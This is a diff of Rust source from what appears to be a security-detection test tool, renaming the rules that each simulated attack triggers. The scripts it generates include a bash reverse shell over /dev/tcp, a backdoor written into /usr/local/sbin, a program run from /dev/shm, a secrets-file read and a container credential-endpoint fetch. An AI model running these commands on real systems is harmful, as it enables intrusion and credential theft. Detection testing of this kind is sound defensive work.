@@ -54,23 +54,23 @@ pub fn all(ground: &Ground) -> Vec<Act> {
         },
         Act {
             title: "reads a file with secrets",
-            rule: "Sensitive file read by an untrusted program",
+            rule: "Sensitive file read",
             script: sensitive_file(ground).map(|path| format!("cat {path}")),
         },
         Act {
             title: "drops a program into /dev/shm and runs it",
-            rule: "Program run from a temporary or shared-memory place",
+            rule: "Program run from shared memory",
             script: drop_and_run(ground),
         },
         Act {
             title: "writes below a directory of programs",
-            rule: "File written below a binary directory",
+            rule: "Write below a binary directory",
             script: private(ground, "/usr/local/sbin is the machine's own here")
                 .map(|()| "echo backdoor >/usr/local/sbin/backdoor".to_owned()),
         },
         Act {
             title: "ties a shell to a socket",
-            rule: "Shell or interpreter with its input and output on a socket",
+            rule: "Standard stream tied to a socket",
             script: bash(ground).map(|()| {
                 let address = ground.headquarters.replace(':', "/");
                 format!("bash -c 'sh >&/dev/tcp/{address} 0>&1'")
@@ -78,7 +78,7 @@ pub fn all(ground: &Ground) -> Vec<Act> {
         },
         Act {
             title: "asks for the task's credentials",
-            rule: "Contact with the task credential endpoint by an unexpected program",
+            rule: "Task credentials fetched by hand",
             script: bash(ground)
                 .and_then(|()| private(ground, "169.254.170.2 needs a network namespace"))
                 .map(|()| {
